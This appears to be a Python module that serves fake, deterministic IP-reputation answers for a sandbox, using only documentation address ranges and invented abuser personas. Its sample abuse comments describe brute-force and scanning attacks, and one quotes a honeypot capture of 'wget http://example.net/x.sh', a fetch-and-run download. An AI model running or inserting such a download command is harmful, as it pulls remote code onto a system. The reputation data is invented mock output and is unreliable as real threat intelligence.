"""What the sandbox makes up, the same for an address at every call. Documentation addresses only."""

from __future__ import annotations

import hashlib
import ipaddress
import random
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any, TypeVar

Address = ipaddress.IPv4Address | ipaddress.IPv6Address
T = TypeVar("T")

_RANGES = tuple(
    ipaddress.ip_network(text) for text in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "2001:db8::/32")
)
_REPORTER_COUNTRIES = (
    ("US", "United States of America"),
    ("DE", "Germany"),
    ("NL", "Netherlands"),
    ("FR", "France"),
    ("JP", "Japan"),
    ("BR", "Brazil"),
)
_HOMES = (("NL", "Netherlands"), ("DE", "Germany"), ("US", "United States of America"), ("SG", "Singapore"))


@dataclass(frozen=True, slots=True)
class Persona:
    """A made-up owner of an address, and how it behaved. `reports` is the number over the last 30 days."""

    score: int
    reports: int
    reporters: int
    categories: tuple[tuple[int, ...], ...]
    comments: tuple[str, ...]
    isp: str
    usage: str
    domain: str
    hostnames: tuple[str, ...] = ()
    tor: bool = False
    whitelisted: bool | None = False
    country: tuple[str, str] | None = None


_BRUTE = Persona(
    score=100,
    reports=412,
    reporters=187,
    categories=((18, 22), (18, 22), (18,), (15, 18), (14,), (18, 22, 15), (21,)),
    comments=(
        "sshd[8812]: Failed password for invalid user oracle from this host port 51122 ssh2",
        "Password spray against Entra ID: 214 accounts, one try each, user agent python-requests",
        "fail2ban: 37 failed logins for root in 10 minutes, banned for a week. Again. Hello, old friend.",
        "Honeypot caught wget http://example.net/x.sh after login admin/admin",
        "RDP brute-force from a Tor exit, 1,900 attempts overnight",
        "VPN portal: credential stuffing with leaked passwords, MFA held",
    ),
    isp="Example Transit B.V.",
    usage="Data Center/Web Hosting/Transit",
    domain="example.net",
    hostnames=("tor-exit-66.example.net",),
    tor=True,
    country=("NL", "Netherlands"),
)
_SUSPICIOUS = Persona(
    score=46,
    reports=19,
    reporters=11,
    categories=((14,), (14, 21), (18,), (19,)),
    comments=(
        "Port scan: 22, 445, 3389, 5985 within two seconds",
        "Probing /.env and /wp-login.php, polite enough to send a referrer",
        "Three failed sign-ins to a shared mailbox, then silence",
    ),
    isp="Sample Hosting GmbH",
    usage="Data Center/Web Hosting/Transit",
    domain="example.org",
    hostnames=("vps23.example.org",),
    country=("DE", "Germany"),
)
_NOISY = Persona(
    score=7,
    reports=3,
    reporters=2,
    categories=((14,), (19,)),
    comments=("One SYN to port 23. Probably a lost refrigerator.", "Crawled the site twice, ignored robots.txt"),
    isp="Example Broadband",
    usage="Fixed Line ISP",
    domain="example.com",
)
_QUIET = Persona(0, 0, 0, (), (), "Example Broadband", "Fixed Line ISP", "example.com")
_MOBILE = Persona(0, 0, 0, (), (), "Example Mobile", "Mobile ISP", "example.com", whitelisted=None)

_KNOWN = {"203.0.113.66": _BRUTE, "198.51.100.23": _SUSPICIOUS}


def is_documentation(address: Address) -> bool:
    """Whether the address is set aside for examples (RFC 5737, RFC 3849)."""
    return any(address in network for network in _RANGES)


def persona(address: Address) -> Persona:
    """The one behind the address: the two known ones, one in eight a little noisy, all others without reports."""
    if known := _KNOWN.get(str(address)):
        return known
    return (_NOISY, _MOBILE, *(_QUIET,) * 6)[_seed(address) % 8]


def check_data(address: Address, now: datetime, days: int, *, verbose: bool) -> dict[str, Any]:
    """`data` of a check answer over the last `days`."""
    someone, listed = persona(address), reports_of(address, now, days)
    code, name = someone.country or _HOMES[_seed(address) // 8 % len(_HOMES)]
    data = {
        "ipAddress": str(address),
        "isPublic": True,
        "ipVersion": address.version,
        "isWhitelisted": someone.whitelisted,
        "abuseConfidenceScore": someone.score,
        "countryCode": code,
        "usageType": someone.usage,
        "isp": someone.isp,
        "domain": someone.domain,
        "hostnames": list(someone.hostnames),
        "isTor": someone.tor,
        "totalReports": len(listed),
        "numDistinctUsers": len({report["reporterId"] for report in listed}),
        "lastReportedAt": listed[0]["reportedAt"] if listed else None,
    }
    return {**data, "countryName": name, "reports": listed} if verbose else data


def reports_of(address: Address, now: datetime, days: int) -> list[dict[str, Any]]:
    """Reports of the last `days`, at most 30 of which have any, newest first."""
    someone, chance = persona(address), random.Random(_seed(address))  # noqa: S311
    ages = sorted(30 * 24 * 60 * chance.random() ** 2 for _ in range(someone.reports))
    return [
        _report(someone, number, now - timedelta(minutes=7 + age), chance)
        for number, age in enumerate(ages)
        if age + 7 <= days * 24 * 60
    ]


def _report(someone: Persona, number: int, at: datetime, chance: random.Random) -> dict[str, Any]:
    reporter = 1000 + (number if number < someone.reporters else chance.randrange(someone.reporters))
    code, name = _pick(_REPORTER_COUNTRIES, reporter)
    return {
        "reportedAt": at.isoformat(timespec="seconds"),
        "comment": _pick(someone.comments, number),
        "categories": list(_pick(someone.categories, number)),
        "reporterId": reporter,
        "reporterCountryCode": code,
        "reporterCountryName": name,
    }


def _pick(choices: Sequence[T], number: int) -> T:
    return choices[number % len(choices)]


def _seed(address: Address) -> int:
    return int.from_bytes(hashlib.sha256(address.packed).digest()[:8], "big")
